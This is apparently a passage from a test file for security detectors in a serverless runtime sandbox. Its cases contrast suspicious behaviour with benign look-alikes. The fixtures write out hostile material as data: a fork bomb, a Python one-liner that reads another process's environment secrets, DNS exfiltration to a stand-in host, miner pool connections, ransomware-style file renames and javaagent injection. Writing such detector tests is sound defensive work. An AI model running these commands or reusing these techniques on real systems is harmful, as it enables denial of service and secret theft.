  'a shell beside a connection of other code': { finds: 'child-process-use:high', in: tied({ timeMs: INIT_MS + 25_900 }), not: tied({ origin: ['/var/task/node_modules/pg/index.js'] }) },
  'a shell beside a later connection': { finds: 'child-process-use:high', in: tied({ timeMs: INIT_MS + 24_000 }), not: tied({ timeMs: INIT_MS + 29_000 }) },
  'an environment that code puts together': { finds: 'child-process-use:high', in: recorded({ subject: 'python3', argv: ['python3', '-c', "open('/proc/' + str(os.getppid()) + '/environ')"] }), not: recorded({ subject: 'python3', argv: ['python3', '-c', "open('/proc/meminfo'); os.environ"] }) },
  'a shell that calls itself twice': { finds: 'child-process-use:high', in: shell(':(){ :|:& };:'), not: shell('retry() { try || retry; }; retry') },
  'code that asks for the next event': { finds: 'runtime-api-client:high', in: recorded({ kind: 'request', subject: 'GET http://127.0.0.1:9001/2018-06-01/runtime/invocation/next', origin: ['eval'] }), not: recorded({ kind: 'request', subject: 'GET http://127.0.0.1:9001/2018-06-01/runtime/invocation/next', origin: ['/var/runtime/index.mjs'] }) },
  'code that answers an event': { finds: 'runtime-api-client:high', in: recorded({ kind: 'request', subject: 'POST http://127.0.0.1:9001/2018-06-01/runtime/invocation/a-1/response' }), not: recorded({ kind: 'request', subject: 'GET http://127.0.0.1:9001/2020-01-01/extension/event/next' }) },
  'a thread at a pool': { finds: 'miner:high', in: threads({ remotePort: 3333 }), not: threads({ remotePort: 443 }) },
  'a thread that is connected to a stranger': { finds: 'lone-request:medium', in: threads({}), not: threads({ remoteAddress: '198.51.100.20' }) },
  'a package that asks for a bare address': { finds: 'lone-request:medium', in: recorded({ kind: 'request', subject: 'POST http://203.0.113.7', origin: ['/var/task/node_modules/x/index.cjs'] }), not: recorded({ kind: 'request', subject: 'POST http://203.0.113.7', origin: ['/var/task/node_modules/axios/index.cjs', '/var/task/index.mjs'] }, { kind: 'request', subject: 'POST https://example.com', origin: ['/var/task/node_modules/x/index.cjs'] }) },
  'names that hold data': { finds: 'long-names:high', in: recorded({ kind: 'resolve', subject: 'exfil.example', count: 4, detail: { type: 'a', length: 140, label: 60 } }), not: recorded({ kind: 'resolve', subject: 'vercel.app', count: 8, detail: { type: 'address', length: 70, label: 58 } }), atMost: 'medium' },
  'answers of text that are asked by long names': { finds: 'long-names:high', in: recorded({ kind: 'resolve', subject: 'exfil.example', count: 4, detail: { type: 'txt', length: 70, label: 55 } }), not: recorded({ kind: 'resolve', subject: 'amazonaws.com', count: 8, detail: { type: 'address', length: 120, label: 63 } }) },
  'output that goes to a file': { finds: 'moved-output:high', in: look({ processes: [{ ...RUNTIME, stdio: ['/dev/null', '/tmp/.log', '/tmp/.log'] }] }), not: look({ processes: [{ ...RUNTIME, stdio: ['pipe:[1]', 'pipe:[2]', '/dev/null'] }] }), atMost: 'medium' },
  'output that is closed, seen from within': { finds: 'moved-output:high', in: late({ stdio: ['pipe:[1]', '', ''] }), not: late({ stdio: ['/dev/null', 'pipe:[9]', 'pipe:[9]'] }) },
  'files that got one more suffix': { finds: 'bulk-rename:high', in: look({ files: locked(12, 'locked') }), not: look({ files: [...locked(12, 'br'), ...locked(12, 'br').map((file) => ({ ...file, path: file.path.slice(0, -3) }))] }) },
  'many files of many kinds that got one more suffix': { finds: 'bulk-rename:high', in: look({ files: locked(40, 'x1') }), not: look({ files: locked(40, 'enc').map((file, at) => ({ ...file, path: `/tmp/${at}.csv.enc` })) }) },
  'a program that starts itself again and again': { finds: 'process-flood:high', in: look({ processes: copies((at) => (at === 0 ? 9 : 40 + Math.floor((at - 1) / 2))) }), not: look({ processes: copies((at) => (at === 0 ? 9 : 40)) }) },
  'an addon of a deleted file in the runtime': { finds: 'mapped-object:high', in: look({ processes: [{ ...RUNTIME, mapped: ['/tmp/a.node (deleted)'] }] }), not: look({ processes: [{ ...RUNTIME, mapped: ['/tmp/a.node (deleted)'] }], files: [fileOf({ path: '/tmp/a.node' })] }), atMost: 'medium' },
  'a library in the memory of a Python': { finds: 'mapped-object:high', in: look({ processes: [{ ...RUNTIME, exe: '/var/lang/bin/python3.13', mapped: ['/memfd:libz (deleted)'] }] }), not: look({ processes: [{ ...RUNTIME, exe: '/usr/lib/jvm/bin/java', mapped: ['/memfd:jit (deleted)'] }] }, baselineOf({ processes: [INIT, EXTENSION, { ...RUNTIME, exe: '/usr/lib/jvm/bin/java' }] })), atMost: 'medium' },
  'an extension that sends what it has read': { finds: 'environ-reader:high', in: look({ processes: [{ ...EXTENSION, peeks: ['/proc/9/environ'] }], sockets: [socketOf({ remoteAddress: '203.0.113.7', pids: [5] })] }), not: look({ processes: [{ ...EXTENSION, peeks: ['/proc/9/environ'] }], sockets: [socketOf({ pids: [5] })] }), atMost: 'medium' },
  'a reading of the runtime beside those of Amber': { finds: 'environ-reader:low', in: look({ processes: [{ ...RUNTIME, peeks: ['/proc/40/environ'] }] }), not: inside({ processes: [{ ...RUNTIME, peeks: ['/proc/40/environ'] }, processOf({ exe: '/var/lang/bin/node', argv: ['node', '-e', PROCFS_SCRIPT], peeks: ['/proc/9/environ'] })] }) },
  'a .pth file that came after the packages': { finds: 'startup-hook:high', in: look({ files: site(INIT_MS + 20_000) }), not: look({ files: site(INIT_MS + 11_000) }), atMost: 'medium' },
  'a hook in no package': { finds: 'startup-hook:high', in: look({ files: [fileOf({ path: '/tmp/v/boot/sitecustomize.py' })] }), not: look({ files: [fileOf({ path: '/tmp/v/boot/sitecustomize.py' }), fileOf({ path: '/tmp/v/boot/__init__.py' })] }), atMost: 'medium' },
  'the name of a thread of the kernel': { finds: 'disguised-name:high', in: one({ comm: 'migration/0' }), not: one({ comm: 'migration-runne', argv: ['/opt/bin/migration-runner'] }) },
  'a text on its own': { finds: 'survivor:high', in: one({ exe: '/var/lang/bin/node', argv: ['node', '-e', 'x'], ppid: 1 }), not: one({ exe: '/var/lang/bin/node', argv: ['node', '/var/task/check.mjs'], ppid: 1 }), atMost: 'medium' },
  'a program of /tmp on its own': { finds: 'survivor:high', in: one({ exe: '/tmp/app/x', ppid: 1 }), not: look({ processes: [processOf({ exe: '/tmp/app/x', ppid: 1 }), processOf({ pid: 41, exe: '/tmp/app/main' })] }), atMost: 'low' },
  'a shell that waits beside a connection of the runtime': { finds: 'shell-child:high', in: waits('52.94.5.1'), not: waits('10.0.12.5'), atMost: 'medium' },
  'an interpreter that reads its input': { finds: 'second-interpreter:medium', in: one({ exe: '/usr/bin/python3', argv: ['python3'] }), not: look({ processes: [processOf({ exe: '/usr/bin/python3', argv: [] }), processOf({ pid: 41, exe: '/usr/bin/php-fpm', argv: ['php-fpm: pool www'] }), processOf({ pid: 42, exe: '/usr/bin/python3', argv: ['python3', '-m', 'gunicorn', 'app'] })] }), atMost: 'low' },
  'options of Java': { finds: 'environment-drift:high', in: one({ env: { JAVA_TOOL_OPTIONS: '-javaagent:/tmp/a.jar' } }), not: one({ env: { JAVA_TOOL_OPTIONS: '-XX:HeapDumpPath=/tmp/d', NODE_OPTIONS: '--report-directory=/tmp/r' } }), atMost: 'low' },
  'memory of a runtime that has doubled': { finds: 'resource-jump:low', in: look({ processes: [{ ...RUNTIME, rssBytes: 9e8 }] }), not: look({ processes: [{ ...RUNTIME, rssBytes: 1e8 }, processOf({ rssBytes: 9e8 })] }) },
  'memory that has doubled': { finds: 'resource-jump:low', in: inside({ own: ownOf({ rssBytes: 2e9 }) }), not: inside({ own: ownOf({ rssBytes: 1.9e8 }) }) },
};

describe('detectors', () => {
  for (const [name, { finds, in: has, not, atMost }] of Object.entries(CASES)) {
    const [detector = ''] = finds.split(':');
    test(`${detector}: ${name}`, () => {
      assert.ok(told(has).includes(finds), `found ${told(has).join(', ') || 'nothing'}`);
      const severities = findingsOf(not)
        .filter((finding) => finding.detector === detector)
        .map(({ severity }) => severity);
      const allowed = atMost === undefined ? [] : atMost === 'low' ? ['low'] : ['low', 'medium'];
      assert.deepEqual(
        severities.filter((severity) => !allowed.includes(severity)),
        [],
        'what only looks like it',
      );
    });
  }

  test('every one has a case of its own', () => {
    const tested = new Set(Object.values(CASES).map(({ finds }) => finds.split(':')[0]));
    assert.deepEqual(
      DETECTORS.filter(({ name }) => !tested.has(name)).map(({ name }) => name),
      [],
    );
  });

  test('an ordinary sandbox has no findings, seen from either side', () => {
    assert.deepEqual(told(look({})), []);
    assert.deepEqual(told(inside({})), []);
  });

  test('no finding holds the value of a variable that is not watched, or a control character that was not there', () => {
    const findings = findingsOf(one({ exe: '/tmp/\xff\n', argv: ['/tmp/\xff\n', 'x'.repeat(5000)] }));
    assert.ok(findings.length > 0);
    for (const { title, evidence } of findings)
      for (const text of [title, ...evidence]) assert.ok(text.length <= 301, text);
  });
});
